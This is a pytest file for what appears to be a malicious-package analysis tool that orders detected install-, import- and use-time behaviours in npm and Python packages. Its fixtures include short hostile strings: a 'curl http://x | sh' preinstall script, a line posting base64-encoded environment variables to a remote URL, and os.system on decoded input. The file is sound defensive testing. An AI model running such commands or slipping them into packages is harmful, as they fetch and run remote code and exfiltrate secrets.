"""The builder on hand-written analyses: independent of what the extractors emit."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from seq_helpers import FileBuilder, analysis_of, assert_in_order, folder_package, ids

from malseq._deadline import Deadline
from malseq.errors import TimeBudgetExceeded
from malseq.features.types import MODULE_SCOPE, BehaviourEvent, CallKind
from malseq.intake.package import Language
from malseq.sequence import Stage, build_sequence

JS = Language.JAVASCRIPT
FIVE = ("fs_read", "fs_write", "read_env", "dns_lookup", "raw_socket")


def _npm(tmp_path: Path, scripts: str = "", main: str = "", files: tuple[str, ...] = ()) -> object:
    manifest = '{"name": "p", "version": "1.0.0"' + (f', "scripts": {{{scripts}}}' if scripts else "") + (
        f', "main": "{main}"' if main else "") + "}"
    return folder_package(tmp_path, {"package.json": manifest, **{f: "// code\n" for f in files}})


def test_call_expands_callee_at_call_site_and_unreached_is_kept_apart(tmp_path: Path) -> None:
    package = _npm(tmp_path, '"postinstall": "node a.js"', files=("a.js", "dead.js"))
    a = (FileBuilder("a.js", JS)
         .function("steal", 10, 12).event("read_env", 11, "steal")
         .event("import_network_module", 1)
         .call("steal", 5)
         .event("upload_data", 6))
    dead = FileBuilder("dead.js", JS).event("run_command", 3)
    seq = build_sequence(package, analysis_of(a, dead), Deadline(10))  # type: ignore[arg-type]
    assert ids(seq, Stage.INSTALL) == ["import_network_module", "read_env", "upload_data"]
    assert [(s.behaviour, s.file, s.line) for s in seq.stage_steps(Stage.UNREACHED)] == [("run_command", "dead.js", 3)]
    steal = next(s for s in seq.steps if s.behaviour == "read_env")
    assert steal.depth == 1 and steal.scope == "steal"


def test_recursion_and_mutual_recursion_are_cut_on_the_path(tmp_path: Path) -> None:
    package = _npm(tmp_path, '"install": "node a.js"', files=("a.js",))
    a = (FileBuilder("a.js", JS)
         .function("f", 2, 5).event("fs_read", 3, "f").call("g", 4, "f").call("f", 4, "f", col=10)
         .function("g", 6, 8).event("fs_write", 7, "g").call("f", 7, "g", col=5)
         .call("f", 10))
    seq = build_sequence(package, analysis_of(a), Deadline(10))  # type: ignore[arg-type]
    assert ids(seq, Stage.INSTALL) == ["fs_read", "fs_write"]
    assert not seq.budget_exhausted


def test_depth_bound(tmp_path: Path) -> None:
    package = _npm(tmp_path, '"install": "node a.js"', files=("a.js",))
    a = FileBuilder("a.js", JS).call("f0", 1)
    for i in range(40):
        a.function(f"f{i}", 10 + 3 * i, 12 + 3 * i)
        a.event(FIVE[i % 5], 11 + 3 * i, f"f{i}")
        a.call(f"f{i + 1}", 12 + 3 * i, f"f{i}")
    seq = build_sequence(package, analysis_of(a), Deadline(10), max_depth=10)  # type: ignore[arg-type]
    reached = [s for s in seq.steps if s.stage is Stage.INSTALL]
    assert len(reached) == 10 and max(s.depth for s in reached) == 10
    assert len(seq.stage_steps(Stage.UNREACHED)) == 30


def test_exponential_call_graph_is_linear_with_replay(tmp_path: Path) -> None:
    package = _npm(tmp_path, '"install": "node a.js"', files=("a.js",))
    a = FileBuilder("a.js", JS).call("f0", 1)
    for i in range(22):  # f_i calls f_{i+1} twice: 2^22 paths
        a.function(f"f{i}", 10 + 4 * i, 13 + 4 * i)
        a.call(f"f{i + 1}", 11 + 4 * i, f"f{i}")
        a.event("read_env" if i % 2 else "encoding_call", 12 + 4 * i, f"f{i}")
        a.call(f"f{i + 1}", 13 + 4 * i, f"f{i}")
    a.function("f22", 200, 201).event("upload_data", 201, "f22")
    # 2^22 paths would blow the counted work budget (400,000 units): staying within it shows replay
    # keeps the walk linear, without a timing assert that a loaded machine could break.
    seq = build_sequence(package, analysis_of(a), Deadline(300), max_steps=4000)  # type: ignore[arg-type]
    assert not seq.budget_exhausted
    assert not seq.stage_steps(Stage.UNREACHED)
    assert len(seq.steps) <= 4000


def test_functions_without_behaviour_are_not_walked_but_their_callees_are(tmp_path: Path) -> None:
    package = _npm(tmp_path, '"install": "node a.js"', files=("a.js",))
    a = (FileBuilder("a.js", JS)
         .function("noop", 2, 3).call("console.log", 3, "noop")
         .function("relay", 4, 6).call("noop", 5, "relay").call("leaf", 6, "relay", col=2)
         .function("leaf", 7, 8).event("dns_lookup", 8, "leaf")
         .call("relay", 10))
    seq = build_sequence(package, analysis_of(a), Deadline(10))  # type: ignore[arg-type]
    assert ids(seq, Stage.INSTALL) == ["dns_lookup"]
    assert seq.steps[0].depth == 2


def test_local_require_runs_module_once_per_process(tmp_path: Path) -> None:
    package = _npm(tmp_path, '"postinstall": "node a.js"', main="a.js", files=("a.js", "lib/u.js"))
    a = (FileBuilder("a.js", JS)
         .binding("u", "./lib/u", None, 1).binding("again", "./lib/u.js", None, 2)
         .call("u.send", 3).call("again.send", 4))
    u = (FileBuilder("lib/u.js", JS).event("import_network_module", 1)
         .function("send", 2, 4).event("upload_data", 3, "send"))
    seq = build_sequence(package, analysis_of(a, u), Deadline(10))  # type: ignore[arg-type]
    expected = ["import_network_module", "upload_data"]  # module body once; two sends merge into one step
    assert ids(seq, Stage.INSTALL) == expected
    assert ids(seq, Stage.IMPORT) == expected  # importing the package is a new process
    upload = next(s for s in seq.steps if s.behaviour == "upload_data")
    assert upload.count == 2


def test_inline_arrow_and_callback_run_after_the_receiving_call(tmp_path: Path) -> None:
    package = _npm(tmp_path, '"postinstall": "node a.js"', files=())
    source = (
        "const https = require('https');\n"
        "https.get('https://x.example', (res) => { res.pipe(out); });\n"
        "setTimeout(later, 10);\n"
        "function later() { exec('id'); }\n"
    )
    (tmp_path / "a.js").write_text(source)
    package = folder_package(tmp_path, {})
    a = (FileBuilder("a.js", JS)
         .binding("https", "https", None, 1)
         .call("https.get", 2, col=6).event("network_request", 2, col=6)
         .call("<arrow@2:33>", 2, col=33, kind=CallKind.INLINE)
         .function("<arrow@2:33>", 2, 2).call("res.pipe", 2, "<arrow@2:33>", col=46)
         .event("fs_write", 2, "<arrow@2:33>", col=46)
         .call("setTimeout", 3, col=0).call("later", 3, col=11, kind=CallKind.CALLBACK)
         .event("eval_code", 3, col=0)
         .function("later", 4, 4).call("exec", 4, "later", col=19).event("run_command", 4, "later", col=19))
    seq = build_sequence(package, analysis_of(a), Deadline(10))  # type: ignore[arg-type]
    assert ids(seq, Stage.INSTALL) == ["network_request", "fs_write", "eval_code", "run_command"]


def test_arguments_run_before_the_call_that_receives_them(tmp_path: Path) -> None:
    source = (
        "import base64, os, requests\n"
        "requests.post('http://x', data=base64.b64encode(os.environ['K'].encode()))\n"
    )
    package = folder_package(tmp_path, {"setup.py": source})
    setup = (FileBuilder("setup.py")
             .call("requests.post", 2, col=0).event("upload_data", 2, col=0)
             .event("use_url", 2, col=14)
             .call("base64.b64encode", 2, col=31).event("encoding_call", 2, col=31)
             .call("os.environ['K'].encode", 2, col=48).event("read_env", 2, col=48))
    seq = build_sequence(package, analysis_of(setup), Deadline(10))
    assert ids(seq, Stage.INSTALL) == ["use_url", "read_env", "encoding_call", "upload_data"]


def test_python_class_body_self_and_cmdclass_run(tmp_path: Path) -> None:
    package = folder_package(tmp_path, {"setup.py": "# code\n"})
    setup = (FileBuilder("setup.py")
             .function("Cmd", 3, 12, is_class=True)
             .event("read_env", 4, "Cmd")  # class attribute: runs at definition
             .function("Cmd.run", 5, 7, "Cmd").call("self.helper", 6, "Cmd.run")
             .function("Cmd.helper", 8, 10, "Cmd").event("run_command", 9, "Cmd.helper")
             .event("setup_command_override", 14))
    seq = build_sequence(package, analysis_of(setup), Deadline(10))
    assert [(s.behaviour, s.entry) for s in seq.steps] == [
        ("read_env", "setup.py"),
        ("setup_command_override", "setup.py"),
        ("run_command", "setup.py Cmd.run"),
    ]
    assert [e.label for e in seq.entry_points] == ["setup.py", "setup.py Cmd.run"]


def test_python_imports_relative_absolute_and_src_layout(tmp_path: Path) -> None:
    package = folder_package(tmp_path, {
        "setup.py": "#\n", "src/helperlib/__init__.py": "#\n", "src/helperlib/fetch.py": "#\n",
        "src/helperlib/util.py": "#\n",
    })
    setup = (FileBuilder("setup.py").binding("grab", "helperlib.fetch", "grab", 1)
             .call("helperlib.fetch.grab", 3))  # the Python extractor writes callees through imports
    init = FileBuilder("src/helperlib/__init__.py").event("import_os_module", 1)
    fetch = (FileBuilder("src/helperlib/fetch.py").binding("send", ".util", "send", 1)
             .function("grab", 2, 4).call("send", 3, "grab"))
    util = (FileBuilder("src/helperlib/util.py").event("import_network_module", 1)
            .function("send", 2, 3).event("upload_data", 3, "send"))
    seq = build_sequence(package, analysis_of(setup, init, fetch, util), Deadline(10))
    assert_in_order(ids(seq, Stage.INSTALL), ["import_os_module", "import_network_module", "upload_data"])
    assert ids(seq, Stage.IMPORT) == ["import_os_module"]  # top-level package __init__ at import time
    assert not seq.stage_steps(Stage.UNREACHED)


def test_console_script_entry_point(tmp_path: Path) -> None:
    package = folder_package(tmp_path, {
        "pkg/__init__.py": "#\n", "pkg/cli.py": "#\n",
        "pkg-1.0.dist-info/METADATA": "Name: pkg\nVersion: 1.0\n",
        "pkg-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\n",
        "pkg-1.0.dist-info/entry_points.txt": "[console_scripts]\npkg-run = pkg.cli:main\n",
    })
    cli = (FileBuilder("pkg/cli.py").event("import_process_module", 1)
           .function("main", 3, 5).event("run_command", 4, "main"))
    seq = build_sequence(package, analysis_of(FileBuilder("pkg/__init__.py"), cli), Deadline(10))
    assert ids(seq, Stage.USE) == ["import_process_module", "run_command"]
    assert "console_script pkg-run = pkg.cli:main" in [e.label for e in seq.entry_points]


def test_manifest_events_of_a_script_come_first_and_missing_file_is_recorded(tmp_path: Path) -> None:
    package = _npm(tmp_path, '"preinstall": "curl http://x | sh && node gone.js"', files=())
    manifest = (
        BehaviourEvent("npm_install_script", "package.json", 1, 0, MODULE_SCOPE, "preinstall: curl http://x | sh",
                       script="preinstall"),
        BehaviourEvent("download_and_execute", "package.json", 1, 0, MODULE_SCOPE, "preinstall: curl http://x | sh",
                       script="preinstall"),
    )
    seq = build_sequence(package, analysis_of(manifest=manifest), Deadline(10))  # type: ignore[arg-type]
    assert ids(seq, Stage.INSTALL) == ["npm_install_script", "download_and_execute"]
    assert seq.entry_points[0].label == "preinstall: node gone.js (missing file gone.js)"


def test_expired_deadline_raises_instead_of_shortening_the_walk(tmp_path: Path) -> None:
    package = _npm(tmp_path, '"install": "node a.js"', files=("a.js",))
    a = FileBuilder("a.js", JS)
    for i in range(1000):
        a.event("fs_read" if i % 2 else "fs_write", i + 1)
    deadline = Deadline(0.0)
    time.sleep(0.005)
    # The deadline is a safety net that fails the target; it never yields a shorter sequence.
    with pytest.raises(TimeBudgetExceeded):
        build_sequence(package, analysis_of(a), deadline)  # type: ignore[arg-type]
    seq = build_sequence(package, analysis_of(a), Deadline(60))  # type: ignore[arg-type]
    assert not seq.budget_exhausted
    assert sum(s.count for s in seq.steps) == 1000  # every event is somewhere, none lost


def test_work_budget_cut_is_the_same_every_time(tmp_path: Path) -> None:
    package = _npm(tmp_path, '"install": "node a.js"', files=("a.js",))
    a = FileBuilder("a.js", JS)
    for i in range(400):
        a.event(FIVE[i % 5], i + 1)
    runs = [build_sequence(package, analysis_of(a), Deadline(60), max_work=150)  # type: ignore[arg-type]
            for _ in range(3)]
    assert all(seq.budget_exhausted for seq in runs)
    assert runs[0].steps == runs[1].steps == runs[2].steps


def test_step_cap(tmp_path: Path) -> None:
    package = _npm(tmp_path, '"install": "node a.js"', files=("a.js",))
    a = FileBuilder("a.js", JS)
    for i in range(500):
        a.event(FIVE[i % 5], i + 1)  # a period of 5 is not folded
    seq = build_sequence(package, analysis_of(a), Deadline(10), max_steps=100)  # type: ignore[arg-type]
    assert seq.budget_exhausted
    assert len(seq.stage_steps(Stage.INSTALL)) == 100
    # What the walk could not place is listed as unreached, up to the same cap.
    assert len(seq.stage_steps(Stage.UNREACHED)) == 100


def test_js_object_literal_method_and_iife(tmp_path: Path) -> None:
    package = _npm(tmp_path, '"postinstall": "node a.js"', files=("a.js",))
    a = (FileBuilder("a.js", JS)
         .function("<function@1:1>", 1, 3).event("run_command", 2, "<function@1:1>")
         .call("<function@1:1>", 1)  # (function () { ... })()
         .function("run", 5, 5).event("read_env", 5, "run")  # const o = { run() { ... } }
         .call("o.run", 6)
         .call("https.get", 7).binding("https", "https", None, 1)
         .function("get", 8, 8).event("fs_write", 8, "get"))  # a local `get` is not https.get
    seq = build_sequence(package, analysis_of(a), Deadline(10))  # type: ignore[arg-type]
    assert ids(seq, Stage.INSTALL) == ["run_command", "read_env"]
    assert ids(seq, Stage.UNREACHED) == ["fs_write"]


def test_method_on_constructed_object_and_on_object_of_unknown_class(tmp_path: Path) -> None:
    package = _npm(tmp_path, '"postinstall": "node post.js"', files=("post.js", "lib.js", "svc.js"))
    post = (FileBuilder("post.js", JS).binding("lib", "./lib", None, 1)
            .call("lib.Stealer", 3, col=10).call("<expr>.run", 3, col=24))  # new lib.Stealer().run()
    lib = (FileBuilder("lib.js", JS).binding("svc", "./svc", None, 1)
           .function("Stealer", 3, 12, is_class=True)
           .function("Stealer.run", 4, 8, "Stealer")
           .call("service.collectTokens", 5, "Stealer.run")  # service: an object of some class
           .event("upload_data", 7, "Stealer.run"))
    svc = (FileBuilder("svc.js", JS)
           .function("Chrome", 1, 4, is_class=True).function("Chrome.collectTokens", 2, 3, "Chrome")
           .event("read_browser_data", 2, "Chrome.collectTokens")
           .function("Discord", 5, 8, is_class=True).function("Discord.collectTokens", 6, 7, "Discord")
           .event("read_app_tokens", 6, "Discord.collectTokens"))
    seq = build_sequence(package, analysis_of(post, lib, svc), Deadline(10))  # type: ignore[arg-type]
    assert ids(seq, Stage.INSTALL) == ["read_browser_data", "read_app_tokens", "upload_data"]


def test_method_on_an_object_built_by_a_constructor_function(tmp_path: Path) -> None:
    """`function Beacon() { this.run = function () {...} }` then `(new Beacon()).run()` on one line: a real
    sample's install-time DNS beacon. A plain function is a constructor too, not only a class."""
    package = _npm(tmp_path, '"preinstall": "node a.js"', files=("a.js",))
    a = (FileBuilder("a.js", JS)
         .function("Beacon", 1, 7)  # not a class
         .function("Beacon.run", 2, 4, "Beacon").event("dns_lookup", 3, "Beacon.run")
         .function("Beacon.spare", 5, 6, "Beacon").event("run_command", 5, "Beacon.spare")
         .call("Beacon", 8, col=2).call("<expr>.run", 8, col=16))
    seq = build_sequence(package, analysis_of(a), Deadline(10))  # type: ignore[arg-type]
    assert ids(seq, Stage.INSTALL) == ["dns_lookup"]
    assert ids(seq, Stage.UNREACHED) == ["run_command"]  # only the method called
    # a member the function does not have stays unresolved
    b = (FileBuilder("a.js", JS)
         .function("Beacon", 1, 7).function("Beacon.run", 2, 4, "Beacon").event("dns_lookup", 3, "Beacon.run")
         .call("Beacon", 8, col=2).call("<expr>.start", 8, col=16))
    seq = build_sequence(package, analysis_of(b), Deadline(10))  # type: ignore[arg-type]
    assert ids(seq, Stage.INSTALL) == [] and ids(seq, Stage.UNREACHED) == ["dns_lookup"]


def test_method_of_the_object_a_function_returns(tmp_path: Path) -> None:
    """`helper().run()` where `helper` returns an object literal `{ run: function () {...} }`: the extractor
    writes the callee as `helper().run` and names the literal's method `helper.run`. It was left
    unreached, so an install-time stealer behind a factory read as dead code."""
    package = _npm(tmp_path, '"postinstall": "node a.js"', files=("a.js",))
    a = (FileBuilder("a.js", JS)
         .function("helper", 1, 9)
         .function("helper.run", 3, 6, "helper").event("upload_data", 4, "helper.run")
         .function("helper.spare", 7, 8, "helper").event("run_command", 7, "helper.spare")
         .call("helper", 10, col=0).call("helper().run", 10, col=0))
    seq = build_sequence(package, analysis_of(a), Deadline(10))  # type: ignore[arg-type]
    assert ids(seq, Stage.INSTALL) == ["upload_data"]
    assert ids(seq, Stage.UNREACHED) == ["run_command"]  # only the member called
    # through a required module's export (`lib.make().run()`), and a member the function has not: unresolved
    b = (FileBuilder("a.js", JS).binding("lib", "./lib", None, 1)
         .call("lib.make", 2, col=0).call("lib.make().run", 2, col=0).call("lib.make().start", 3, col=0))
    lib = (FileBuilder("lib.js", JS)
           .function("make", 1, 6).function("make.run", 2, 4, "make").event("dns_lookup", 3, "make.run")
           .function("make.stop", 5, 6, "make").event("fs_write", 5, "make.stop"))
    package = _npm(tmp_path / "b", '"postinstall": "node a.js"', files=("a.js", "lib.js"))
    seq = build_sequence(package, analysis_of(b, lib), Deadline(10))  # type: ignore[arg-type]
    assert ids(seq, Stage.INSTALL) == ["dns_lookup"]
    assert ids(seq, Stage.UNREACHED) == ["fs_write"]


def test_common_method_names_are_not_guessed(tmp_path: Path) -> None:
    package = _npm(tmp_path, '"postinstall": "node a.js"', files=("a.js",))
    a = (FileBuilder("a.js", JS)
         .function("Logger", 1, 4, is_class=True).function("Logger.write", 2, 3, "Logger")
         .event("fs_write", 2, "Logger.write")
         .call("res.write", 6))  # an HTTP response's write, not Logger.write
    seq = build_sequence(package, analysis_of(a), Deadline(10))  # type: ignore[arg-type]
    assert ids(seq, Stage.INSTALL) == []
    assert ids(seq, Stage.UNREACHED) == ["fs_write"]


def test_main_guard_runs_only_when_the_file_is_the_program(tmp_path: Path) -> None:
    lib = "import os\n\ndef main():\n    os.system('x')\n\nif __name__ == '__main__':\n    main()\n"
    package = folder_package(tmp_path, {
        "setup.py": lib, "pkg/__init__.py": lib,
        "pkg-1.0.dist-info/METADATA": "Name: pkg\nVersion: 1.0\n", "pkg-1.0.dist-info/WHEEL": "x\n",
    })

    def module(path: str) -> FileBuilder:
        return (FileBuilder(path).event("import_os_module", 1)
                .function("main", 3, 4).event("run_command", 4, "main", col=4)
                .call("main", 7, col=4))

    seq = build_sequence(package, analysis_of(module("setup.py"), module("pkg/__init__.py")), Deadline(10))
    assert ids(seq, Stage.INSTALL) == ["import_os_module", "run_command"]  # setup.py is run as __main__
    assert ids(seq, Stage.IMPORT) == ["import_os_module"]  # importing pkg skips its __main__ block
    assert ids(seq, Stage.USE) == ["run_command"]  # pkg.main is public: the user's program may call it
    assert ids(seq, Stage.UNREACHED) == []


def test_js_require_main_guard(tmp_path: Path) -> None:
    source = "const cp = require('child_process');\nif (require.main === module) {\n  cp.exec('id');\n}\n"
    package = folder_package(tmp_path, {
        "package.json": '{"name": "p", "version": "1.0.0", "main": "cli.js", "scripts": {"install": "node cli.js"}}',
        "cli.js": source,
    })
    cli = FileBuilder("cli.js", JS).event("import_process_module", 1).event("run_command", 3, col=5)
    seq = build_sequence(package, analysis_of(cli), Deadline(10))  # type: ignore[arg-type]
    assert ids(seq, Stage.INSTALL) == ["import_process_module", "run_command"]  # `node cli.js`: the program
    assert ids(seq, Stage.IMPORT) == ["import_process_module"]  # require('p'): not the program


def test_python_star_import_then_call(tmp_path: Path) -> None:
    package = folder_package(tmp_path, {"pkg/__init__.py": "#\n", "pkg/impl.py": "#\n"})
    init = FileBuilder("pkg/__init__.py").binding("", ".impl", "*", 1).call("initialize", 3)
    impl = (FileBuilder("pkg/impl.py").event("import_network_module", 1)
            .function("initialize", 3, 5).event("eval_code", 4, "initialize"))
    seq = build_sequence(package, analysis_of(init, impl), Deadline(10))
    assert ids(seq, Stage.IMPORT) == ["import_network_module", "eval_code"]


def test_short_repeated_patterns_fold(tmp_path: Path) -> None:
    package = _npm(tmp_path, '"install": "node a.js"', files=("a.js",))
    a = FileBuilder("a.js", JS).event("read_env", 1)
    for i in range(300):  # decode, eval, decode, eval, ...: thousands of calls to two helpers
        a.event("encoding_call" if i % 2 == 0 else "eval_code", 2 + i)
    a.event("upload_data", 400)
    seq = build_sequence(package, analysis_of(a), Deadline(10))  # type: ignore[arg-type]
    assert ids(seq, Stage.INSTALL) == ["read_env", "encoding_call", "eval_code", "upload_data"]
    assert [s.count for s in seq.steps] == [1, 150, 150, 1]


def test_name_bound_in_try_and_except_imports_uses_the_one_that_resolves(tmp_path: Path) -> None:
    package = folder_package(tmp_path, {"pkg/__init__.py": "#\n", "pkg/core.py": "#\n"})
    init = (FileBuilder("pkg/__init__.py")
            .binding("run", "pkgcore", "run", 2)  # try: from pkgcore import run  (not in this package)
            .binding("run", ".core", "run", 4)  # except ImportError: from .core import run
            .call("run", 6))
    core = FileBuilder("pkg/core.py").function("run", 1, 2).event("run_command", 2, "run")
    seq = build_sequence(package, analysis_of(init, core), Deadline(10))
    assert ids(seq, Stage.IMPORT) == ["run_command"]


def test_unreached_function_lists_its_events_in_evaluation_order(tmp_path: Path) -> None:
    source = "import os, base64\ndef _later(r):\n    os.system(base64.b64decode(r))\n"
    package = folder_package(tmp_path, {"setup.py": "#\n", "pkg/__init__.py": source})
    init = (FileBuilder("pkg/__init__.py").function("_later", 2, 3)  # private and never called: dead code
            .call("os.system", 3, "_later", col=4).event("run_command", 3, "_later", col=4)
            .call("base64.b64decode", 3, "_later", col=14).event("encoding_call", 3, "_later", col=14))
    seq = build_sequence(package, analysis_of(FileBuilder("setup.py"), init), Deadline(10))
    assert ids(seq, Stage.UNREACHED) == ["encoding_call", "run_command"]


def test_fallback_package_functions_are_its_use_stage_and_its_tests_stay_unreached(tmp_path: Path) -> None:
    lone = "const cp = require('child_process');\nfunction run(c) {\n  cp.exec(c);\n}\n"
    package = folder_package(tmp_path, {"payload.js": lone, "test/payload.test.js": lone})

    def module(path: str) -> FileBuilder:
        return (FileBuilder(path, Language.JAVASCRIPT).event("import_process_module", 1)
                .function("run", 2, 4).event("run_command", 3, "run", col=2).call("cp.exec", 3, "run", col=2))

    seq = build_sequence(package, analysis_of(module("payload.js"), module("test/payload.test.js")), Deadline(10))
    assert [e.label for e in seq.entry_points][:2] == ["fallback all files", "use payload.js run"]
    assert [(s.behaviour, s.file) for s in seq.stage_steps(Stage.USE)] == [("run_command", "payload.js")]
    assert [(s.behaviour, s.file) for s in seq.stage_steps(Stage.UNREACHED)] == [
        ("run_command", "test/payload.test.js")]
